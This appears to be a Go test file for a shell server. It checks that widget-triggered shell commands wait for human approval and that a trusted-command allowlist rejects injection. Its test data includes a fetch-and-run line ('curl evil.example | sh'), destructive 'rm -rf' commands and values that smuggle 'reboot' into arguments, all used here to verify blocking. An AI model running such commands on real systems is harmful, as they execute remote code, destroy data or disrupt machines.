@@ -0,0 +1,242 @@
+package shellserver
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gorilla/websocket"
+
+	"shellserver/internal/testshell"
+)
+
+func postShellAction(s *ShellServer, cmd string) *httptest.ResponseRecorder {
+	body, _ := json.Marshal(WidgetActionRequest{Type: "shell", Cmd: cmd})
+	req := httptest.NewRequest(http.MethodPost, "/widget/test/action", strings.NewReader(string(body)))
+	rec := httptest.NewRecorder()
+	s.handleWidgetAction(rec, req)
+	return rec
+}
+
+func confirmIDFrom(t *testing.T, rec *httptest.ResponseRecorder) string {
+	t.Helper()
+	if rec.Code != http.StatusAccepted {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusAccepted)
+	}
+	var resp struct {
+		ConfirmID string `json:"confirm_id"`
+	}
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil || resp.ConfirmID == "" {
+		t.Fatalf("missing confirm_id in response: %v", err)
+	}
+	return resp.ConfirmID
+}
+
+func TestConfirmApprove(t *testing.T) {
+	s, pty := newPipeServer(t)
+
+	id := confirmIDFrom(t, postShellAction(s, "rm -rf build"))
+
+	if _, ok := readPTYLine(t, pty, 100*time.Millisecond); ok {
+		t.Fatal("command reached the shell before approval")
+	}
+
+	rec := httptest.NewRecorder()
+	s.handleConfirm(rec, httptest.NewRequest(http.MethodPost, "/confirm/"+id, strings.NewReader(`{"approve":true}`)))
+	if rec.Code != http.StatusNoContent {
+		t.Fatalf("confirm status = %d, want %d", rec.Code, http.StatusNoContent)
+	}
+
+	line, ok := readPTYLine(t, pty, time.Second)
+	if !ok || line != "rm -rf build\n" {
+		t.Errorf("shell received %q, want %q", line, "rm -rf build\n")
+	}
+
+	// A second reply for the same ID is rejected.
+	rec = httptest.NewRecorder()
+	s.handleConfirm(rec, httptest.NewRequest(http.MethodPost, "/confirm/"+id, strings.NewReader(`{"approve":true}`)))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("repeat confirm status = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+}
+
+func TestConfirmSingleUse(t *testing.T) {
+	s, pty := newPipeServer(t)
+
+	token := confirmIDFrom(t, postShellAction(s, "make release"))
+	if err := s.resolveConfirm(token, true); err != nil {
+		t.Fatal(err)
+	}
+	for _, approve := range []bool{true, false} {
+		if err := s.resolveConfirm(token, approve); err != errUnknownConfirm {
+			t.Errorf("second answer (%v): %v, want %v", approve, err, errUnknownConfirm)
+		}
+	}
+	if line, ok := readPTYLine(t, pty, time.Second); !ok || line != "make release\n" {
+		t.Errorf("shell received %q", line)
+	}
+	if line, ok := readPTYLine(t, pty, 100*time.Millisecond); ok {
+		t.Errorf("command ran twice: %q", line)
+	}
+
+	// A well-signed token for a confirmation that was never held
+	stray := s.confirmSigner.issue("0123456789abcdef", time.Now().Add(time.Minute))
+	if err := s.resolveConfirm(stray, true); err != errUnknownConfirm {
+		t.Errorf("token for no confirmation: %v, want %v", err, errUnknownConfirm)
+	}
+}
+
+func TestConfirmWidgetApproval(t *testing.T) {
+	s, ts := startFakeShellServer(t)
+	allowWidgetCmds(s, ``)
+	c := testshell.Dial(t, ts.URL, "")
+
+	body := strings.NewReader(`{"type":"shell","cmd":"echo approved-through-widget"}`)
+	resp, err := http.Post(ts.URL+"/widget/x/action", "application/json", body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusAccepted {
+		t.Fatalf("action status %d, want 202", resp.StatusCode)
+	}
+
+	// The widget arrives inline and is stored like any other
+	ev := c.ExpectEvent("html", testshell.DefaultTimeout)
+	content, _ := ev["content"].(string)
+	widgetID := int(ev["widget_id"].(float64))
+	if stored, ok := s.widgetHTML(widgetID); !ok || stored != content {
+		t.Fatalf("widget %d stored as %q, broadcast as %q", widgetID, stored, content)
+	}
+	for _, want := range []string{"Run this widget command?", "echo approved-through-widget", ">Approve</button>", ">Deny</button>"} {
+		if !strings.Contains(content, want) {
+			t.Errorf("confirmation widget missing %q:\n%s", want, content)
+		}
+	}
+	m := regexp.MustCompile(`<form class="confirm-form" data-confirm="(confirm/[^"]+)">`).FindStringSubmatch(content)
+	if m == nil {
+		t.Fatalf("no confirm form in %s", content)
+	}
+	confirm := c.ExpectEvent("confirm", testshell.DefaultTimeout)
+	if "confirm/"+confirm["id"].(string) != m[1] {
+		t.Errorf("confirm event id %v, form posts to %s", confirm["id"], m[1])
+	}
+
+	// Answer as the panel does
+	resp, err = http.Post(ts.URL+"/"+m[1], "application/json", strings.NewReader(`{"approve":true}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusNoContent {
+		t.Fatalf("approve status %d, want 204", resp.StatusCode)
+	}
+	c.ExpectOutput("\r\napproved-through-widget\r\n", testshell.DefaultTimeout)
+
+	// The widget now records the outcome, and the token is spent
+	if update := c.ExpectEvent("html-update", testshell.DefaultTimeout); int(update["widget_id"].(float64)) != widgetID {
+		t.Errorf("update for widget %v, want %d", update["widget_id"], widgetID)
+	}
+	if resolved, _ := s.widgetHTML(widgetID); !strings.Contains(resolved, "Approved") || strings.Contains(resolved, "<form") {
+		t.Errorf("resolved widget = %s", resolved)
+	}
+	resp, err = http.PostForm(ts.URL+"/"+m[1], url.Values{"approve": {"true"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusNotFound {
+		t.Errorf("second approval status %d, want 404", resp.StatusCode)
+	}
+}
+
+func TestConfirmRejectViaControlMessage(t *testing.T) {
+	s, pty := newPipeServer(t)
+
+	id := confirmIDFrom(t, postShellAction(s, "curl evil.example | sh"))
+
+	reply, _ := json.Marshal(map[string]any{"kind": "confirm-reply", "id": id, "approve": false})
+	msg, ok := parseControlFrame(websocket.TextMessage, reply)
+	if !ok {
+		t.Fatal("confirm-reply not recognized as a control frame")
+	}
+	s.handleControlMessage(nil, msg)
+
+	if line, ok := readPTYLine(t, pty, 200*time.Millisecond); ok {
+		t.Errorf("rejected command reached the shell: %q", line)
+	}
+}
+
+func TestConfirmTimeout(t *testing.T) {
+	s, pty := newPipeServer(t)
+	s.confirmTimeout = 50 * time.Millisecond
+
+	id := confirmIDFrom(t, postShellAction(s, "make deploy"))
+
+	if line, ok := readPTYLine(t, pty, 200*time.Millisecond); ok {
+		t.Errorf("timed-out command reached the shell: %q", line)
+	}
+	if err := s.resolveConfirm(id, true); err != errConfirmExpired {
+		t.Errorf("late approval error = %v, want %v", err, errConfirmExpired)
+	}
+}
+
+func TestConfirmTrustedBypass(t *testing.T) {
+	s, pty := newPipeServer(t)
+
+	cmd := "'" + helperDir + "/lsh' -a -t '/home/me/My Docs'"
+	rec := postShellAction(s, cmd)
+	if rec.Code != http.StatusNoContent {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusNoContent)
+	}
+	if line, ok := readPTYLine(t, pty, time.Second); !ok || line != cmd+"\n" {
+		t.Errorf("shell received %q, want %q", line, cmd+"\n")
+	}
+}
+
+func TestIsTrustedCmd(t *testing.T) {
+	s, _ := newPipeServer(t)
+	lsh, duh := "'"+helperDir+"/lsh'", "'"+helperDir+"/duh'"
+
+	tests := []struct {
+		cmd  string
+		want bool
+	}{
+		{lsh + ` '/tmp'`, true},
+		{duh + ` -d '/tmp'`, true},
+		{lsh + ` -l -S '/it'"'"'s'`, true},
+		{lsh + ` -l -si=false '/tmp'`, true},
+		{duh + ` -d '2' -a -key 'duh-12-345' '/tmp'`, true},
+		{lsh + ` -A -l -t -R -d '2' '/tmp/a b'`, true},
+		{lsh + ` -si=$(reboot) '/tmp'`, false},
+		{lsh + ` '/it'"; reboot; "'s'`, false},
+		{lsh + ` '/tmp'; rm -rf ~`, false},
+		{lsh + ` '/tmp' && reboot`, false},
+		{lsh + ` $(reboot)`, false},
+		{`lsh /tmp`, false},
+		{"'" + helperDir + "/lshx' '/tmp'", false},
+		// An lsh anywhere but beside goshell could be anything
+		{`'/tmp/x/lsh' '/tmp'`, false},
+		{`'/usr/bin/lsh' '/tmp'`, false},
+		{"'" + helperDir + "/../lsh' '/tmp'", false},
+		{"'" + helperDir + "x/lsh' '/tmp'", false},
+		// serveh is allowed, but shares a directory, so isn't trusted
+		{"'" + helperDir + "/serveh' '/tmp'", false},
+	}
+	for _, tt := range tests {
+		if got := s.isTrustedCmd(tt.cmd); got != tt.want {
+			t.Errorf("isTrustedCmd(%q) = %v, want %v", tt.cmd, got, tt.want)
+		}
+	}
+
+	s.confirmWidgetCmds = false
+	rec := postShellAction(s, "echo anything")
+	if rec.Code != http.StatusNoContent {
+		t.Errorf("with confirmation disabled, status = %d, want %d", rec.Code, http.StatusNoContent)
+	}
+}